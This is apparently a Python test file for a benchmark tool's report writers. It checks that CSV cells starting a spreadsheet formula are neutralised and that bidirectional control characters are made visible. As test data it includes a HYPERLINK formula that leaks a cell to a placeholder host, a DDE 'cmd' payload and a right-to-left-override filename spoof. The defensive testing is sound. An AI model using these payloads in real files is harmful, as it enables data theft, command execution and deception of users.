"""What a person reads: CSV cells no spreadsheet runs, and bidirectional controls made visible.

Issue 15, items 10 and 11: a ``predictions.csv`` cell starting with ``=`` was written as is (a
spreadsheet runs it), and U+202E and friends passed raw into the HTML, the Markdown and the terminal.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claimbench._display import (
    BIDI_CONTROLS,
    RevealingStream,
    defuse_formula,
    restore_formula,
    reveal,
    revealing_stdio,
)
from claimbench.cli import main
from claimbench.records import NUMERIC_CONSISTENCY, Verdict
from claimbench.report.html import render_html
from claimbench.report.json import predictions_csv, read_predictions_csv, spooled_parquet, write_parquet
from claimbench.report.markdown import render_markdown
from claimbench.report.model import Prediction, Report, prediction_line
from claimbench.run.cache import CacheScope
from claimbench.run.streaming import Finish, Spool
from tests.report_fixtures import sample_report

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
RLO = "\u202e"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@given(st.text())
def test_the_formula_prefix_is_removed_exactly(cell: str) -> None:
    assert restore_formula(defuse_formula(cell)) == cell


@given(st.text())
def test_no_defused_cell_starts_a_formula(cell: str) -> None:
    assert not defuse_formula(cell).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_prefixed(start: str) -> None:
    assert defuse_formula(start + "1+1") == "'" + start + "1+1"
    assert defuse_formula("1+1") == "1+1"


@given(st.text())
def test_reveal_leaves_no_bidirectional_control(text: str) -> None:
    shown = reveal(text)
    assert not set(shown) & set(BIDI_CONTROLS)
    if not set(text) & set(BIDI_CONTROLS):
        assert shown == text


def test_reveal_names_the_character() -> None:
    assert reveal(f"abc{RLO}def") == "abc⟨U+202E⟩def"


def _prediction(**changes: object) -> Prediction:
    base = Prediction(
        "toy", NUMERIC_CONSISTENCY, "c1", "toy-checker", "consistent", "consistent", 0.5, None, "", "a"
    )
    return replace(base, **changes)  # type: ignore[arg-type]


FORMULAS = [
    _prediction(item_id=HYPERLINK),
    _prediction(predicted=HYPERLINK, explanation="+1", error="@SUM(A1:A9)"),
    _prediction(checker="-2+3", cluster="'quoted", explanation="fine", score=0.25),
]


def test_predictions_csv_defuses_formulas_and_reads_back_exactly(tmp_path: Path) -> None:
    text = predictions_csv(FORMULAS)
    rows = text.splitlines()[1:]
    assert rows[0].startswith("toy,numeric_consistency,\"'=HYPERLINK(")
    assert ",'+1," in rows[1]
    assert "'@SUM(A1:A9)" in rows[1]
    assert rows[2].startswith("toy,numeric_consistency,c1,'-2+3,")
    assert ",0.25," in rows[2]
    path = tmp_path / "predictions.csv"
    path.write_text(text, encoding="utf-8")
    back = read_predictions_csv(path)
    assert [r["item_id"] for r in back] == [p.item_id for p in FORMULAS]
    assert [r["predicted"] for r in back] == [p.predicted or "" for p in FORMULAS]
    assert [r["cluster"] for r in back] == [p.cluster for p in FORMULAS]


def test_parquet_keeps_the_exact_texts_in_memory_and_streamed(tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    direct = write_parquet(FORMULAS, tmp_path / "direct.parquet")
    spool = tmp_path / "spool.csv"
    spool.write_text(predictions_csv(FORMULAS), encoding="utf-8")
    streamed = spooled_parquet(spool, tmp_path / "streamed.parquet")
    assert direct is not None
    assert streamed is not None
    for path in (direct, streamed):
        rows = pq.read_table(path).to_pylist()
        assert [r["item_id"] for r in rows] == [p.item_id for p in FORMULAS]
        assert [r["predicted"] for r in rows] == [p.predicted for p in FORMULAS]
        assert [r["error"] for r in rows] == [p.error for p in FORMULAS]
        assert [r["checker"] for r in rows] == [p.checker for p in FORMULAS]
        assert [r["cluster"] for r in rows] == [p.cluster for p in FORMULAS]


def test_streamed_rows_are_defused_like_the_in_memory_ones() -> None:
    scope = CacheScope("0" * 64, "toy", "1", {})
    finish = Finish("toy", NUMERIC_CONSISTENCY, "=cmd|' /C calc'!A0", scope)
    verdicts = [
        Verdict("@c1", "toy", "1", "consistent", 0.5, HYPERLINK),
        Verdict.failed("c2", "toy", "1", "-oops"),
    ]
    done = finish.reduce(["@c1", "c2"], ["consistent", "inconsistent"], ["a", "+b"], verdicts)
    expected = [
        Prediction(
            "toy", NUMERIC_CONSISTENCY, i, finish.checker, g, v.label, v.score, v.error, v.explanation, c
        )
        for i, g, c, v in zip(
            ["@c1", "c2"], ["consistent", "inconsistent"], ["a", "+b"], verdicts, strict=True
        )
    ]
    assert "".join(done.rows) == predictions_csv(expected).split("\n", 1)[1]
    assert "'=cmd" in done.rows[0]
    assert "'@c1" in done.rows[0]
    assert "'-oops" in done.rows[1]


def _hostile(report: Report) -> Report:
    scores = (replace(report.scores[0], checker=f"safe{RLO}txt.exe"), *report.scores[1:])
    return replace(report, scores=scores)


def test_html_and_markdown_show_bidirectional_controls() -> None:
    report = _hostile(sample_report())
    for text in (render_html(report), render_markdown(report)):
        assert RLO not in text
        assert "safe⟨U+202E⟩txt.exe" in text


def test_article_text_with_a_bidirectional_control_is_marked_in_the_html() -> None:
    report = sample_report()
    article = report.articles[0]
    shifted = replace(article, text=article.text + f"Trailing {RLO}note.\n")
    text = render_html(replace(report, articles=(shifted, *report.articles[1:])))
    assert RLO not in text
    assert "Trailing ⟨U+202E⟩note." in text


def test_the_terminal_sees_markers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / f"data{RLO}set"
    assert main(["validate", str(missing)]) != 0
    out = capsys.readouterr()
    assert RLO not in out.out + out.err
    assert "data⟨U+202E⟩set" in out.out + out.err


def test_revealing_stream_passes_tty_and_restores_stdio() -> None:
    target = io.StringIO()
    stream = RevealingStream(target)
    assert stream.write(f"a{RLO}b") == 3
    assert target.getvalue() == "a⟨U+202E⟩b"
    assert stream.isatty() is False
    import sys

    before = sys.stdout, sys.stderr
    with revealing_stdio():
        assert isinstance(sys.stdout, RevealingStream)
        with revealing_stdio():  # nesting does not wrap twice
            assert not isinstance(sys.stdout.target, RevealingStream)  # type: ignore[attr-defined]
    assert (sys.stdout, sys.stderr) == before


def test_a_held_dataset_s_rows_in_a_mixed_run_s_spool_are_defused_too(tmp_path: Path) -> None:
    """The spool writes a dataset loaded whole with the same formatter as predictions.csv (not raw cells)."""
    with Spool(tmp_path / "spool.csv") as spool:
        spool.write(FORMULAS)
    assert (tmp_path / "spool.csv").read_text(encoding="utf-8") == predictions_csv(FORMULAS)


_CELL = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12) | st.sampled_from(
    ["=1+1", "@x", "+", "-", "a,b", 'say "hi"', "two\nlines", "cr\rlf", "\r\n", ""]
)


@given(cells=st.lists(_CELL, min_size=9, max_size=9), score=st.none() | st.floats(allow_nan=False))
def test_a_prediction_line_is_what_csv_writer_writes_of_the_defused_cells(
    cells: list[str], score: float | None
) -> None:
    dataset, task, item_id, checker, gold, predicted, error, explanation, cluster = cells
    line = prediction_line(
        dataset, task, item_id, checker, gold, predicted, score, error, explanation, cluster
    )
    expected = io.StringIO()
    row = [defuse_formula(c) for c in (dataset, task, item_id, checker, gold, predicted)]
    row += ["" if score is None else repr(score)]
    row += [defuse_formula(c) for c in (error, explanation, cluster)]
    csv.writer(expected, lineterminator="\n").writerow(row)
    assert line == expected.getvalue()
